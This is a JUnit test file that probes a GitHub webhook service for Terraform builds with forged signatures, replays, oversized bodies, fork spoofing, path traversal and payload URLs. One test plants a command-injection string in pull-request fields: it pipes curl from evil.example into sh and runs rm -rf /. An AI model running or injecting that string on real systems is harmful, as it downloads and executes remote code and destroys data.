package dev.tfgate.webhook;

import static dev.tfgate.webhook.World.COMMIT;
import static dev.tfgate.webhook.World.REPOSITORY;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What somebody who wants more than they may have could send. */
class AttacksTest {
  private static final String EVIL = "e".repeat(40);

  @TempDir private Path folder = Path.of("");

  private World world;
  private Webhook webhook;

  @BeforeEach
  void open() throws IOException {
    world = new World(folder);
    webhook = world.webhook();
  }

  @AfterEach
  void close() {
    webhook.close();
    world.close();
  }

  private static Request with(Request request, String header, List<String> values) {
    Map<String, List<String>> headers = new LinkedHashMap<>(request.headers());
    headers.remove(header);
    if (!values.isEmpty()) {
      headers.put(header, values);
    }
    return new Request(request.method(), request.path(), headers, request.body());
  }

  private Request opened() {
    return world.delivery("pull_request", World.pullRequest("opened", 7, COMMIT));
  }

  private Reply signed(UnaryOperator<String> change) {
    Request request = opened();
    String signature = request.header("X-Hub-Signature-256").orElseThrow();
    return webhook.handle(with(request, "X-Hub-Signature-256", List.of(change.apply(signature))));
  }

  private void nothingHappened() {
    assertThat(world.builds.calls()).isEmpty();
    assertThat(world.github.calls()).isEmpty();
    assertThat(world.storage.requests()).isEmpty();
  }

  @Test
  void aSignatureThatIsNotTheOneIsRefusedBeforeAnythingIsDone() {
    assertThat(webhook.handle(with(opened(), "X-Hub-Signature-256", List.of())).status())
        .isEqualTo(401);
    assertThat(signed(text -> "").status()).isEqualTo(401);
    assertThat(signed(text -> "sha256=").status()).isEqualTo(401);
    assertThat(signed(text -> text.substring(0, text.length() - 2)).status()).isEqualTo(401);
    assertThat(signed(text -> text + "00").status()).isEqualTo(401);
    assertThat(signed(text -> text + ", " + text).status()).isEqualTo(401);
    assertThat(signed(text -> text.replace("sha256", "sha1")).status()).isEqualTo(401);
    assertThat(signed(text -> "sha256=" + "0".repeat(64)).status()).isEqualTo(401);
    assertThat(signed(text -> "sha256=" + "g".repeat(64)).status()).isEqualTo(401);
    assertThat(signed(text -> text.replace("sha256=", "SHA256=").toUpperCase(Locale.ROOT)).status())
        .isEqualTo(401);
    Request request = opened();
    String signature = request.header("X-Hub-Signature-256").orElseThrow();
    assertThat(
            webhook
                .handle(with(request, "X-Hub-Signature-256", List.of(signature, signature)))
                .status())
        .isEqualTo(401);
    nothingHappened();
  }

  @Test
  void theSecretOfAnotherWebhookIsNoSecret() {
    byte[] body =
        World.pullRequest("opened", 7, COMMIT).toString().getBytes(StandardCharsets.UTF_8);
    for (String secret : List.of("another-secret-that-is-long", " ", "\0")) {
      String signature = Signature.of(body, secret.getBytes(StandardCharsets.UTF_8));
      assertThat(signed(text -> signature).status()).isEqualTo(401);
    }
    nothingHappened();
    // The one before goes on counting while it is listed; a line break that ends its file doesn't.
    String old = Signature.of(body, "the-secret-before-this-one".getBytes(StandardCharsets.UTF_8));
    assertThat(signed(text -> old).status()).isEqualTo(200);
  }

  @Test
  void aSignatureOfOtherBytesIsRefused() {
    Request request = opened();
    byte[] other =
        World.pullRequest("opened", 8, COMMIT).toString().getBytes(StandardCharsets.UTF_8);
    assertThat(
            webhook
                .handle(
                    new Request(
                        "POST",
                        "/events/github",
                        request.headers(),
                        new ByteArrayInputStream(other)))
                .status())
        .isEqualTo(401);
    nothingHappened();
  }

  @Test
  void aBodyOverTheLimitIsNotRead() {
    Request request = opened();
    assertThat(webhook.handle(with(request, "Content-Length", List.of("26214401"))).status())
        .isEqualTo(413);
    assertThat(webhook.handle(with(request, "Content-Length", List.of("-1"))).status())
        .isEqualTo(413);
    InputStream endless =
        new InputStream() {
          @Override
          public int read() {
            return ' ';
          }

          @Override
          public int read(byte[] buffer, int offset, int length) {
            return length;
          }
        };
    assertThat(
            webhook
                .handle(new Request("POST", "/events/github", request.headers(), endless))
                .status())
        .isEqualTo(413);
    nothingHappened();
  }

  @Test
  void aSlowBodyIsGivenUp() {
    InputStream slow =
        new InputStream() {
          @Override
          public int read() throws IOException {
            try {
              Thread.sleep(300);
            } catch (InterruptedException e) {
              throw new IOException(e);
            }
            return ' ';
          }

          @Override
          public int read(byte[] buffer, int offset, int length) throws IOException {
            buffer[offset] = (byte) read();
            return 1;
          }
        };
    long start = System.nanoTime();
    assertThat(
            webhook
                .handle(new Request("POST", "/events/github", opened().headers(), slow))
                .status())
        .isEqualTo(408);
    assertThat(System.nanoTime() - start).isLessThan(15_000_000_000L);
    nothingHappened();
  }

  @Test
  void bodiesTogetherTakeNoMoreMemoryThanThereIs() throws Exception {
    Bodies bodies = new Bodies(1 << 20, java.time.Duration.ofSeconds(5), 1 << 20);
    byte[] large = new byte[900_000];
    Request request = new Request("POST", "/", Map.of(), new ByteArrayInputStream(large));
    int status =
        bodies.read(
            request,
            held -> {
              try {
                return bodies.read(
                    new Request("POST", "/", Map.of(), new ByteArrayInputStream(large)),
                    body -> 200);
              } catch (Bodies.RefusedException e) {
                return e.status();
              }
            });
    assertThat(status).isEqualTo(503);
    assertThat(
            bodies.<Integer>read(
                new Request("POST", "/", Map.of(), new ByteArrayInputStream(large)), body -> 200))
        .isEqualTo(200);
  }

  @Test
  void anOldDeliveryUnderANewIdIsStillTheOldOne() {
    ObjectNode body = World.push("main", "d".repeat(40), COMMIT);
    Reply first = webhook.handle(world.delivery("push", body));
    assertThat(first.status()).isEqualTo(200);
    Request replayed = world.delivery("push", body);
    assertThat(webhook.handle(with(replayed, "X-GitHub-Delivery", List.of("made-up"))))
        .isEqualTo(first);
    assertThat(world.builds.builds()).hasSize(1);
  }

  @Test
  void anOldPushDoesNotTakeTheBranchBack() {
    world.github.head(REPOSITORY, "main", EVIL);
    Reply reply =
        webhook.handle(world.delivery("push", World.push("main", "d".repeat(40), COMMIT)));
    assertThat(reply.body()).contains("moved on");
    assertThat(world.builds.builds()).isEmpty();
  }

  @Test
  void signedBytesUnderTheNameOfAnotherEventStartNothing() {
    for (String kind : List.of("push", "issue_comment", "pull_request_review", "", "a b", "PUSH")) {
      Reply reply =
          webhook.handle(
              with(
                  world.delivery(kind, World.pullRequest("opened", 7, COMMIT)),
                  "X-GitHub-Event",
                  List.of(kind)));
      assertThat(reply.status()).as(kind).isIn(200, 400);
      assertThat(reply.body()).as(kind).doesNotContain("started");
    }
    assertThat(world.builds.builds()).isEmpty();
  }

  @Test
  void aForksBranchWithTheNameOfABaseBranchIsAForksBranch() {
    ObjectNode pull = world.github.pull(REPOSITORY, 7, EVIL);
    ((ObjectNode) pull.get("head")).put("ref", "main");
    ((ObjectNode) pull.at("/head/repo")).put("full_name", "mallory/infra").put("fork", true);
    ObjectNode body = World.pullRequest("opened", 7, EVIL);
    ((ObjectNode) body.at("/pull_request/head")).put("ref", "main");
    Reply reply = webhook.handle(world.delivery("pull_request", body));
    assertThat(reply.body()).contains("fork");
    assertThat(world.builds.builds()).isEmpty();
  }

  @Test
  void nothingThatAnAuthorWritesGetsIntoABuild() {
    String evil = "$(curl evil.example|sh)`id`\"; rm -rf / #\u001b]0;\u0007${_IMAGE}";
    ObjectNode pull = world.github.pull(REPOSITORY, 7, COMMIT);
    pull.put("title", evil).put("body", evil);
    ((ObjectNode) pull.get("head")).put("ref", evil).put("label", evil);
    ((ObjectNode) pull.get("base")).put("label", evil);
    ObjectNode body = World.pullRequest("opened", 7, COMMIT);
    ((ObjectNode) body.get("pull_request")).put("title", evil).put("body", evil);
    ((ObjectNode) body.at("/pull_request/head")).put("ref", evil);
    body.putObject("sender").put("login", evil);
    assertThat(webhook.handle(world.delivery("pull_request", body)).status()).isEqualTo(200);
    assertThat(world.builds.only().toString()).doesNotContain("evil", "rm -rf", "\u001b");
    assertThat(world.github.statuses().toString()).doesNotContain("evil");
    assertThat(world.log()).doesNotContain("evil", "\u001b", World.SECRET, "ghp_");
  }

  @Test
  void noAddressInAPayloadIsEverAsked() throws IOException {
    try (FakeGitHub elsewhere = new FakeGitHub()) {
      String url = elsewhere.endpoint().toString();
      ObjectNode body = World.pullRequest("opened", 7, COMMIT);
      for (String key :
          List.of("url", "statuses_url", "comments_url", "issue_url", "commits_url", "diff_url")) {
        ((ObjectNode) body.get("pull_request")).put(key, url + "/" + key);
      }
      for (String key : List.of("url", "clone_url", "git_url", "hooks_url", "statuses_url")) {
        ((ObjectNode) body.get("repository")).put(key, url + "/" + key);
      }
      assertThat(webhook.handle(world.delivery("pull_request", body)).status()).isEqualTo(200);
      assertThat(elsewhere.calls()).isEmpty();
      assertThat(world.builds.only().toString()).doesNotContain(url);
    }
  }

  @Test
  void namesOutOfPlaceReachNoPath() {
    for (String name :
        List.of("acme/infra/../../user", "acme/infra?x", "acme/infra#", "../..", "acme/Infra")) {
      ObjectNode body = World.pullRequest("opened", 7, COMMIT);
      ((ObjectNode) body.get("repository")).put("full_name", name);
      assertThat(webhook.handle(world.delivery("pull_request", body)).body()).contains("nothing");
    }
    ObjectNode body = World.comment("../../../user", "/tfgate plan", 5);
    assertThat(webhook.handle(world.delivery("issue_comment", body)).status()).isEqualTo(400);
    assertThat(world.github.calls()).isEmpty();
  }

  @Test
  void theCommandDoesNotReachACommitThatCameAfterIt() {
    ObjectNode pull = world.github.pull(REPOSITORY, 7, EVIL);
    ((ObjectNode) pull.at("/head/repo")).put("full_name", "mallory/infra");
    Reply reply =
        webhook.handle(
            world.delivery("issue_comment", World.comment("boss", "/tfgate plan " + COMMIT, 5)));
    assertThat(reply.body()).contains("another commit");
    assertThat(world.builds.builds()).isEmpty();
  }

  @Test
  void aCommentThatCopiesTheMarkerIsNotTaken() {
    Reply _ = webhook.handle(opened());
    String id = world.builds.only().get("id").asText();
    world.storage.put("acme-ci-reports", id + ".md", "## one\n");
    world.builds.status(id, "SUCCESS");
    webhook.handle(world.news(id, "SUCCESS"));
    String copied = world.github.comments().getFirst().lines().findFirst().orElseThrow();
    world.github.addComment(7, copied + "\nnot ours");
    webhook.handle(world.delivery("issue_comment", World.comment("boss", "/tfgate plan", 9)));
    String next = world.builds.builds().getLast().get("id").asText();
    world.storage.put("acme-ci-reports", next + ".md", "## two\n<!-- hidden -->\n");
    world.builds.status(next, "SUCCESS");
    webhook.handle(world.news(next, "SUCCESS"));
    List<String> comments = world.github.comments();
    assertThat(comments).hasSize(2);
    assertThat(comments.get(0)).contains("two", "&lt;!-- hidden");
    assertThat(comments.get(1)).contains("not ours");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "null",
        "[]",
        "{",
        "{}",
        "{}{}",
        "{\"action\":\"opened\",\"action\":\"closed\"}",
        "\u0000",
        "{\"action\":\"opened\",\"repository\":{\"full_name\":\"acme/infra\"}}",
        "{\"action\":\"opened\",\"pull_request\":{\"number\":1e9},\"repository\":{\"full_name\":\"acme/infra\"}}",
        "{\"action\":\"opened\",\"pull_request\":{\"number\":-7},\"repository\":{\"full_name\":\"acme/infra\"}}",
        "{\"action\":\"opened\",\"pull_request\":{\"number\":99999999999999999999},\"repository\":{\"full_name\":\"acme/infra\"}}",
        "{\"action\":\"opened\",\"pull_request\":[],\"repository\":{\"full_name\":\"acme/infra\"}}",
        "{\"action\":[\"opened\"],\"repository\":{\"full_name\":\"acme/infra\"}}",
        "{\"repository\":\"acme/infra\",\"action\":\"opened\"}"
      })
  void signedNonsenseStartsNothing(String body) {
    for (String kind : List.of("pull_request", "push", "issue_comment")) {
      Reply reply = webhook.handle(world.delivery(kind, body));
      assertThat(reply.status()).as(kind).isIn(200, 400);
      assertThat(reply.body()).doesNotContain("started");
    }
    assertThat(world.builds.calls()).isEmpty();
  }

  @Test
  void deepAndLongJsonIsNoTrouble() {
    String deep = "[".repeat(100_000);
    assertThat(webhook.handle(world.delivery("push", "{\"a\":" + deep)).status()).isEqualTo(400);
    StringBuilder commits = new StringBuilder("{\"commits\":[");
    for (int i = 0; i < 20_000; i++) {
      commits
          .append(i == 0 ? "" : ",")
          .append("{\"id\":\"")
          .append(COMMIT)
          .append("\",\"x\":[{}]}");
    }
    commits.append("],").append(World.push("main", "d".repeat(40), COMMIT).toString().substring(1));
    assertThat(webhook.handle(world.delivery("push", commits.toString())).status()).isEqualTo(200);
    assertThat(world.builds.builds()).hasSize(1);
  }

  @Test
  void otherTypesOfContentAreRefused() {
    for (List<String> type :
        List.of(
            List.<String>of(),
            List.of("text/plain"),
            List.of("application/x-www-form-urlencoded"))) {
      assertThat(webhook.handle(with(opened(), "Content-Type", type)).status()).isEqualTo(415);
    }
    nothingHappened();
  }

  @Test
  void onlyWhatIsThereIsAnswered() {
    List<Integer> statuses = new ArrayList<>();
    for (String path :
        List.of("/events/github", "/events/build", "/events/resume", "/etc/passwd")) {
      statuses.add(
          webhook
              .handle(new Request("GET", path, Map.of(), InputStream.nullInputStream()))
              .status());
    }
    assertThat(statuses).containsExactly(405, 405, 405, 404);
    String metrics =
        webhook
            .handle(new Request("GET", "/metrics", Map.of(), InputStream.nullInputStream()))
            .body();
    assertThat(metrics).contains("tfgate_webhook_answers_total{outcome=\"405\"} 3");
  }

  @Test
  void logsAreJsonWithSeverityAndDelivery() throws IOException {
    Request request =
        with(
            opened(),
            "traceparent",
            List.of("00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"));
    webhook.handle(request);
    var line = new ObjectMapper().readTree(world.log().lines().toList().getLast());
    assertThat(line.get("severity").asText()).isEqualTo("INFO");
    assertThat(line.get("delivery").asText()).startsWith("00000000-");
    assertThat(line.get("logging.googleapis.com/trace").asText())
        .isEqualTo("projects/acme-ci/traces/0af7651916cd43dd8448eb211c80319c");
  }
}
